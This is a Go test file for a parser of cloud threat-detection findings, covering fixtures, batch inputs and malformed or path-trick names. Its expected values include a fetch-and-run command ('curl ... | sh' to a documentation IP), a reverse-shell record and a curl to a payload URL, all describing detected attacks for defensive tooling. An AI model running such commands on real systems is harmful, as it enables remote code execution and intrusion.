package finding

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func fixture(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func mustParse(t testing.TB, data []byte) *Finding {
	t.Helper()
	f, err := Parse(data)
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	return f
}

func ptr[T any](v T) *T { return &v }

func childShell() *Finding {
	return &Finding{
		Name:               "organizations/400123400123/sources/5550001/locations/global/findings/0a1b2c3d4e5f60718293a4b5c6d7e8f9",
		CanonicalName:      "projects/700800900100/sources/5550001/locations/global/findings/0a1b2c3d4e5f60718293a4b5c6d7e8f9",
		NotificationConfig: "organizations/400123400123/locations/global/notificationConfigs/enricher",
		Parent:             "organizations/400123400123/sources/5550001/locations/global",
		ParentDisplayName:  "Cloud Run Threat Detection",
		ResourceName:       "//run.googleapis.com/projects/shop-prod/locations/europe-west1/services/checkout/revisions/checkout-00042-abc",
		Category:           "Unexpected Child Shell",
		Description:        "A process that should not normally invoke shells spawned a shell process.",
		ExternalURI:        "https://console.cloud.google.com/run/detail/europe-west1/checkout",
		Class:              "THREAT",
		State:              Active,
		Severity:           Critical,
		Mute:               "UNDEFINED",
		EventTime:          time.Date(2026, 9, 5, 5, 29, 30, 46257728, time.UTC),
		CreateTime:         time.Date(2026, 9, 5, 5, 29, 31, 347e6, time.UTC),
		Containers: []Container{{
			Name:    "app",
			URI:     "europe-docker.pkg.dev/shop-prod/images/checkout:latest",
			ImageID: "sha256:1111111111111111111111111111111111111111111111111111111111111111",
		}},
		Processes: []Process{
			{
				Name: "sh",
				Binary: &File{
					Path: "/bin/dash", Size: 125688, HashedSize: 125688, DiskPath: "bin/dash",
					SHA256: "AF9B3F1E2D4C5B6A79880716253443526170F8E9DACBBCAD9E8F706152433425",
				},
				Args:     []string{"sh", "-c", "curl -s http://198.51.100.7/x.sh | sh", `"unterminated`, "plain"},
				EnvNames: []string{"DB_PASSWORD", "PATH", "TOKEN"},
				PID:      17, ParentPID: 1, UserID: ptr(int64(0)),
			},
			{
				Name: "java",
				Binary: &File{
					Path: "/opt/java/bin/java", Size: 12000, HashedSize: 4096, PartiallyHashed: true,
					SHA256: strings.Repeat("b", 64),
				},
				ArgsTruncated: true, PID: 1,
			},
		},
		Indicator:   Indicator{Signatures: []string{"webshell_generic"}},
		Connections: []Connection{{DestinationIP: "198.51.100.7", DestinationPort: 443, Protocol: "TCP"}},
		Mitre: Mitre{
			PrimaryTactic:     "EXECUTION",
			PrimaryTechniques: []string{"COMMAND_AND_SCRIPTING_INTERPRETER", "UNIX_SHELL", "SOME_FUTURE_TECHNIQUE"},
			Version:           "16",
		},
		Resource: Resource{
			Name:        "//run.googleapis.com/projects/shop-prod/locations/europe-west1/services/checkout",
			DisplayName: "checkout", Type: "google.cloud.run.Service", Service: "run.googleapis.com", Location: "europe-west1",
			ProjectNumber: "700800900100", ProjectID: "shop-prod", Organization: "organizations/400123400123",
			Folders: []string{"folders/2002", "folders/2001"},
		},
		Workload: Workload{
			Project: "shop-prod", ProjectNumber: "700800900100", Location: "europe-west1",
			Kind: Service, Name: "checkout", Revision: "checkout-00042-abc",
		},
	}
}

func TestParseFixtures(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		want *Finding
	}{
		{name: "v2_unexpected_child_shell.json", want: childShell()},
		{name: "v1_reverse_shell.json", want: &Finding{
			Name:               "organizations/400123400123/sources/5550001/findings/rs0001",
			CanonicalName:      "projects/700800900100/sources/5550001/findings/rs0001",
			NotificationConfig: "organizations/400123400123/notificationConfigs/enricher",
			Parent:             "organizations/400123400123/sources/5550001",
			ResourceName:       "//run.googleapis.com/projects/700800900100/locations/us-central1/jobs/nightly/executions/nightly-x7k2p/tasks/0",
			Category:           "Reverse Shell",
			Class:              "THREAT", State: Active, Severity: High,
			EventTime:  time.Date(2026, 1, 2, 3, 4, 5, 6, time.UTC),
			CreateTime: time.Date(2026, 1, 2, 3, 4, 6, 0, time.UTC),
			Marks:      map[string]string{"enrich_event_time": "2026-01-02T03:04:05.000000006Z", "Team": "pay"},
			Containers: []Container{{Name: "nightly-1", URI: "gcr.io/shop-prod/nightly:v7"}},
			Processes: []Process{{
				Name: "bash", Binary: &File{Path: "/bin/bash"}, Args: []string{"bash", "-i"}, PID: 44, ParentPID: 1,
			}},
			ReverseShell: &ReverseShell{DestinationIP: "203.0.113.66", DestinationPort: 4444, SourceIP: "10.8.0.3", SourcePort: 51514},
			Resource: Resource{
				Name:        "//run.googleapis.com/projects/700800900100/locations/us-central1/jobs/nightly",
				DisplayName: "nightly", Type: "google.run.Job",
				ProjectNumber: "700800900100", ProjectID: "shop-prod", Folders: []string{"folders/2002"},
			},
			Workload: Workload{
				Project: "shop-prod", ProjectNumber: "700800900100", Location: "us-central1",
				Kind: Job, Name: "nightly", Execution: "nightly-x7k2p",
			},
		}},
		{name: "snake_numeric.json", want: &Finding{
			Name:              "organizations/400123400123/sources/5550001/findings/sn0001",
			CanonicalName:     "projects/700800900100/sources/5550001/findings/sn0001",
			ParentDisplayName: "Cloud Run Threat Detection",
			ResourceName:      "//run.googleapis.com/projects/shop-prod/locations/us-east1/workerPools/crunch/revisions/crunch-00001-zzz",
			Category:          "Malicious URL Observed", ExternalURI: "https://example.com/",
			Class: "THREAT", State: Active, Severity: High, Mute: "MUTED",
			EventTime:  time.Unix(1606287680, 123456789).UTC(),
			CreateTime: time.Unix(1606287681, 0).UTC(),
			Containers: []Container{{Name: "crunch", ImageID: "sha256:22"}},
			Processes: []Process{{
				Name: "curl", Args: []string{"curl", "http://bad.example/payload"}, ArgsTruncated: true,
				EnvNames: []string{"A"}, EnvTruncated: true, PID: 9, ParentPID: 1, UserID: ptr(int64(1000)),
				Libraries: []File{{Path: "/lib/a.so", Size: 5, HashedSize: 5, DiskPath: "a.so"}},
			}},
			Indicator:   Indicator{IPs: []string{"203.0.113.9"}, Domains: []string{"bad.example"}, URIs: []string{"http://bad.example/payload"}},
			Connections: []Connection{{DestinationIP: "203.0.113.9", DestinationPort: 8080, SourceIP: "10.0.0.1", Protocol: "TCP"}},
			Access: Access{
				Principal: "a@example.com", CallerIP: "203.0.113.8", Region: "NL", UserAgent: "ua",
				ServiceName: "run.googleapis.com", MethodName: "m",
			},
			Mitre: Mitre{PrimaryTactic: "EXECUTION", PrimaryTechniques: []string{"99999"}},
			Resource: Resource{
				DisplayName: "crunch", ProjectNumber: "700800900100", ProjectID: "shop-prod", Folders: []string{"folders/7"},
			},
			Workload: Workload{
				Project: "shop-prod", ProjectNumber: "700800900100", Location: "us-east1",
				Kind: WorkerPool, Name: "crunch", Revision: "crunch-00001-zzz",
			},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(tt.want, mustParse(t, fixture(t, tt.name))); diff != "" {
				t.Errorf("Parse (-want +got):\n%s", diff)
			}
		})
	}
}

func TestEnvValuesAreNeverKept(t *testing.T) {
	t.Parallel()
	b, err := json.Marshal(mustParse(t, fixture(t, "v2_unexpected_child_shell.json")))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(b), "never-kept") {
		t.Errorf("an environment value is in the finding: %s", b)
	}
}

func TestParseAll(t *testing.T) {
	t.Parallel()
	list := fixture(t, "list_two.json")
	var compact []byte
	{
		var v any
		if err := json.Unmarshal(list, &v); err != nil {
			t.Fatal(err)
		}
		compact, _ = json.Marshal(v)
	}
	shell := fixture(t, "v2_unexpected_child_shell.json")
	tests := []struct {
		name string
		in   string
		want []string // finding ids
		err  error
	}{
		{name: "list answer", in: string(list), want: []string{"a", "b"}},
		{name: "one notification", in: string(shell), want: []string{"0a1b2c3d4e5f60718293a4b5c6d7e8f9"}},
		{name: "NDJSON", in: string(compact) + "\n" + string(compact) + "\n\n", want: []string{"a", "b", "a", "b"}},
		{name: "pretty values in sequence", in: string(list) + string(shell), want: []string{"a", "b", "0a1b2c3d4e5f60718293a4b5c6d7e8f9"}},
		{name: "array of answers", in: "[" + string(list) + "," + string(shell) + "]", want: []string{"a", "b", "0a1b2c3d4e5f60718293a4b5c6d7e8f9"}},
		{name: "bad ones do not lose good ones", in: `[{"name":"x"},{"name":"projects/1/sources/2/findings/ok"},7]`, want: []string{"ok"}, err: ErrNoFinding},
		{name: "broken tail keeps the head", in: `{"name":"projects/1/sources/2/findings/ok"}` + "\n{", want: []string{"ok"}, err: ErrNotJSON},
		{name: "empty list", in: `{"listFindingsResults":[]}`, err: ErrNoFinding},
		{name: "too deep", in: `[[[[{"name":"projects/1/sources/2/findings/ok"}]]]]`, err: ErrNoFinding},
		{name: "empty", in: " \n", err: ErrNotJSON},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := ParseAll([]byte(tt.in))
			if !errors.Is(err, tt.err) {
				t.Errorf("error %v, want %v", err, tt.err)
			}
			var ids []string
			for _, f := range got {
				ids = append(ids, f.CanonicalName[strings.LastIndexByte(f.CanonicalName, '/')+1:])
			}
			if diff := cmp.Diff(tt.want, ids); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseAllIsBounded(t *testing.T) {
	t.Parallel()
	one := `{"name":"projects/1/sources/2/findings/f"},`
	got, err := ParseAll([]byte("[" + strings.Repeat(one, MaxFindings) + one[:len(one)-1] + "]"))
	if !errors.Is(err, ErrNoFinding) || len(got) != MaxFindings {
		t.Errorf("got %d findings and error %v, want %d and an error", len(got), err, MaxFindings)
	}
	_, err = ParseAll([]byte(strings.Repeat(`{} `, 1000)))
	if err == nil || len(err.Error()) > 2000 {
		t.Errorf("errors are not bounded: %v", err)
	}
}

func TestListElement(t *testing.T) {
	t.Parallel()
	all, err := ParseAll(fixture(t, "list_two.json"))
	if err != nil {
		t.Fatal(err)
	}
	want := []*Finding{
		{
			Name:          "organizations/1/sources/2/locations/eu/findings/a",
			CanonicalName: "folders/3/sources/2/locations/eu/findings/a",
			ResourceName:  "//compute.googleapis.com/projects/p/zones/z/instances/1",
			Category:      "Malware: Bad IP", State: Inactive, Deleted: true,
			Resource: Resource{
				Name:          "//compute.googleapis.com/projects/p/zones/z/instances/1",
				ProjectNumber: "1111", Organization: "organizations/1",
			},
		},
		{
			Name:          "projects/my-proj/sources/2/findings/b",
			CanonicalName: "projects/my-proj/sources/2/findings/b",
			ResourceName:  "//run.googleapis.com/projects/my-proj/locations/l/services/s",
			Resource:      Resource{Name: "//run.googleapis.com/projects/my-proj/locations/l/services/s"},
			Workload:      Workload{Project: "my-proj", Location: "l", Kind: Service, Name: "s"},
		},
	}
	if diff := cmp.Diff(want, all); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

const okName = `"name":"projects/1/sources/2/findings/f"`

func TestParseErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		in   string
		want error // nil: it parses
	}{
		{name: "empty", in: "", want: ErrNotJSON},
		{name: "text", in: "hello", want: ErrNotJSON},
		{name: "cut", in: `{"finding":{`, want: ErrNotJSON},
		{name: "two values", in: `{` + okName + `} {}`, want: ErrNotJSON},
		{name: "base64", in: "eyJmaW5kaW5nIjp7fX0=", want: ErrNotJSON},
		{name: "null", in: "null", want: ErrNoFinding},
		{name: "number", in: "12", want: ErrNoFinding},
		{name: "string", in: `"finding"`, want: ErrNoFinding},
		{name: "empty object", in: "{}", want: ErrNoFinding},
		{name: "empty array", in: "[]", want: ErrNoFinding},
		{name: "empty finding", in: `{"finding":{}}`, want: ErrNoFinding},
		{name: "null finding", in: `{"finding":null}`, want: ErrNoFinding},
		{name: "finding is text", in: `{"finding":"x",` + okName + `}`, want: ErrNoFinding},
		{name: "operator's probe without a name", in: `{"test":"t","finding":{"category":"TEST","severity":"LOW","state":"ACTIVE"}}`, want: ErrNoFinding},
		{name: "name is a number", in: `{"finding":{"name":5}}`, want: ErrNoFinding},
		{name: "canonical name is an object", in: `{"finding":{` + okName + `,"canonicalName":{}}}`, want: ErrNoFinding},
		{name: "resource name is a list", in: `{"finding":{` + okName + `,"resourceName":[]}}`, want: ErrNoFinding},
		{name: "event time is a bare number", in: `{"finding":{` + okName + `,"eventTime":1606287680}}`, want: ErrNoFinding},
		{name: "event time is no time", in: `{"finding":{` + okName + `,"eventTime":"2025-06-25T16:27:20-070003055Z"}}`, want: ErrNoFinding},
		{name: "event time out of range", in: `{"finding":{` + okName + `,"eventTime":{"seconds":"999999999999999"}}}`, want: ErrNoFinding},
		{name: "state is an object", in: `{"finding":{` + okName + `,"state":{}}}`, want: ErrNoFinding},
		{name: "mute is a list", in: `{"finding":{` + okName + `,"mute":["MUTED"]}}`, want: ErrNoFinding},
		{name: "other message with a name", in: `{"name":"projects/p/locations/l/rollouts/r"}`, want: ErrNoFinding},
		{name: "error body", in: `{"error":{"code":403,"status":"PERMISSION_DENIED"}}`, want: ErrNoFinding},
		{name: "two in an array", in: `[{` + okName + `},{` + okName + `}]`, want: ErrNoFinding},
		{name: "one in an array", in: `[{` + okName + `}]`},
		{name: "one in a list answer", in: `{"listFindingsResults":[{"finding":{` + okName + `}}]}`},
		{name: "one in an older list answer", in: `{"findings":[{` + okName + `}]}`},
		{name: "console export", in: `{"findings":{` + okName + `},"sourceProperties":{}}`},
		{name: "byte order mark", in: "\xef\xbb\xbf{" + okName + "}"},
		{name: "event time missing", in: `{` + okName + `}`},
		{name: "canonical name alone", in: `{"finding":{"canonicalName":"projects/1/sources/2/findings/f"}}`},
		{name: "everything null", in: `{"finding":{` + okName + `,"canonicalName":null,"eventTime":null,"state":null,"mute":null,"processes":null,"containers":[null],"securityMarks":null,"mitreAttack":null},"resource":null}`},
		{name: "path trick", in: `{"name":"projects/1/sources/2/findings/../securityMarks"}`, want: ErrNoFinding},
		{name: "dots", in: `{"name":"projects/1/sources/../findings/f"}`, want: ErrNoFinding},
		{name: "query", in: `{"name":"projects/1/sources/2/findings/f?x"}`, want: ErrNoFinding},
		{name: "fragment", in: `{"name":"projects/1/sources/2/findings/f#x"}`, want: ErrNoFinding},
		{name: "percent", in: `{"name":"projects/1/sources/2/findings/%2e"}`, want: ErrNoFinding},
		{name: "wildcard", in: `{"name":"projects/1/sources/-/findings/f"}`, want: ErrNoFinding},
		{name: "marks name", in: `{"name":"projects/1/sources/2/findings/f/securityMarks"}`, want: ErrNoFinding},
		{name: "newline", in: `{"name":"projects/1/sources/2/findings/f\n"}`, want: ErrNoFinding},
		{name: "bad name beside a good canonical name", in: `{"name":"x","canonicalName":"projects/1/sources/2/findings/f"}`, want: ErrNoFinding},
		{name: "domain-scoped project", in: `{"name":"projects/example.com:p/sources/2/findings/f"}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f, err := Parse([]byte(tt.in))
			if !errors.Is(err, tt.want) {
				t.Fatalf("error %v, want %v", err, tt.want)
			}
			if (f == nil) != (tt.want != nil) {
				t.Fatalf("finding %v with error %v", f, err)
			}
			if f != nil && f.CanonicalName == "" {
				t.Error("no identity")
			}
		})
	}
}
